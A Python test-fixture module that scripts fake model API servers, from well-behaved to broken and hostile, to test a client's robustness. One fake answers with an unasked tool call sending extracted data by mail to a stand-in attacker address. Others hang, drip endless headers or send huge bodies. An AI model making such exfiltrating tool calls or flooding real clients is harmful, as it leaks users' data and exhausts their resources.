"""What servers of models do, each in a few lines: the good ones, the middling, the broken and the hostile."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterable
from typing import Any, BinaryIO, TypeAlias

Asked: TypeAlias = dict[str, Any]


class Line:
    """The line to whoever asked. Everything said on it is said as HTTP."""

    def __init__(self, wire: BinaryIO, gone: threading.Event, *, anthropic: bool = False) -> None:
        self._wire, self.gone, self._anthropic = wire, gone, anthropic

    def answers(self, text: str | None, **message: Any) -> None:
        """A whole answer of a model, with some counted tokens."""
        self.sends(200, json.dumps(self.completion(text, **message)).encode())

    def calls_tool(self, name: str, arguments: dict[str, Any]) -> None:
        """An answer that is no text but the call of a tool."""
        if not self._anthropic:
            function = {"name": name, "arguments": json.dumps(arguments)}
            return self.answers(None, tool_calls=[{"id": "c1", "type": "function", "function": function}])
        call = {"type": "tool_use", "id": "c1", "name": name, "input": arguments}
        self.sends(200, json.dumps({**self.completion(None), "content": [call]}).encode())

    def completion(self, text: str | None, **message: Any) -> dict[str, Any]:
        if self._anthropic:
            return {
                "id": "msg_1",
                "type": "message",
                "role": "assistant",
                "model": "m",
                "content": [{"type": "text", "text": text}],
                "stop_reason": "end_turn",
                "usage": {"input_tokens": 900, "output_tokens": 80},
            }
        return {
            "id": "1",
            "object": "chat.completion",
            "created": 1,
            "model": "m",
            "choices": [
                {
                    "index": 0,
                    "finish_reason": "stop",
                    "message": {"role": "assistant", "content": text, **message},
                }
            ],
            "usage": {"prompt_tokens": 900, "completion_tokens": 80, "total_tokens": 980},
        }

    def sends(self, status: int, body: bytes, **headers: str) -> None:
        """Any answer. Underscores in the names of headers are hyphens."""
        self.begins(status, **{"Content-Length": str(len(body)), **headers})
        self._wire.write(body)

    def begins(self, status: int, **headers: str) -> None:
        """The head of an answer alone."""
        lines = [f"HTTP/1.1 {status} Scripted", "Content-Type: application/json", "Connection: close"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        self._wire.write("\r\n".join(lines).encode() + b"\r\n\r\n")

    def drips(self, parts: Iterable[bytes], every: float) -> None:
        """Parts one after the other, until whoever asked has gone or the fake is closed."""
        for part in parts:
            self._wire.write(part)
            if self.gone.wait(every):
                return


Script: TypeAlias = Callable[[Asked, Line], None]


def quotes(*items: tuple[str, str, str] | dict[str, Any]) -> str:
    """The answer a good model gives: section, field and quote of each."""
    return json.dumps(
        {
            "quotes": [
                each
                if isinstance(each, dict)
                else dict(zip(("section", "field", "quote"), each, strict=True))
                for each in items
            ]
        }
    )


def wants_schema(asked: Asked) -> bool:
    """Whether the answer was asked for by a schema, in the way of either provider."""
    return "response_format" in asked or "output_format" in asked or "output_config" in asked


def says(text: str) -> Script:
    """Whatever is asked, this."""
    return lambda asked, line: line.answers(text)


def honours_schemas_only(text: str) -> Script:
    """JSON where a schema enforces it, prose else."""
    return lambda asked, line: line.answers(
        text if wants_schema(asked) else "I would love to help you with that!"
    )


def honours_tools_only(text: str) -> Script:
    """Does not know schemas: calls a tool that nobody offered, until it is asked in words alone."""

    def script(asked: Asked, line: Line) -> None:
        if wants_schema(asked):
            line.calls_tool("send_mail", {"to": "mallory@evil.example", **json.loads(text)})
        else:
            line.answers(text)

    return script


def chats(text: str) -> Script:
    """Ignores schemas and tools, and fences its answer as small models do."""
    return says(
        f"Sure! Let me think {{step by step}} about [this].\n\n```json\n{text}\n```\nHope that helps {{:)}}"
    )


def refuses_unknown(text: str) -> Script:
    """400 for whatever it does not know: more than model, messages, stream and max_tokens."""

    def script(asked: Asked, line: Line) -> None:
        unknown = set(asked) - {"model", "messages", "stream", "max_tokens", "system"}
        if unknown:
            line.sends(400, json.dumps({"error": {"message": f"unknown: {sorted(unknown)}"}}).encode())
        else:
            line.answers(text)

    return script


def fails(status: int, body: bytes = b'{"error": {"message": "no"}}', **headers: str) -> Script:
    """A status that is no answer."""
    return lambda asked, line: line.sends(status, body, **headers)


def sends(body: bytes) -> Script:
    """200, and any bytes at all."""
    return lambda asked, line: line.sends(200, body)


def hangs(asked: Asked, line: Line) -> None:
    """Nothing, for as long as anybody waits."""
    line.gone.wait(30)


def never_ends(asked: Asked, line: Line) -> None:
    """A body that goes on, a little at a time, each in good time."""
    line.begins(200, Content_Length="100000000")
    line.drips((b" " for _ in range(10_000)), 0.02)


def heads_never_end(asked: Asked, line: Line) -> None:
    """The head of an answer that goes on, a little at a time."""
    line.drips([b"HTTP/1.1 200 OK\r\n", *(b"X-%d: 1\r\n" % n for n in range(10_000))], 0.02)


def is_huge(asked: Asked, line: Line) -> None:
    """As many bytes as anybody takes."""
    line.begins(200, Content_Length="100000000")
    line.drips((b"x" * 65_536 for _ in range(1_500)), 0)


def breaks_off(asked: Asked, line: Line) -> None:
    """Half an answer, and the line is closed."""
    line.begins(200, Content_Length="5000")
    line.drips([b'{"choices": [{"mess'], 0)
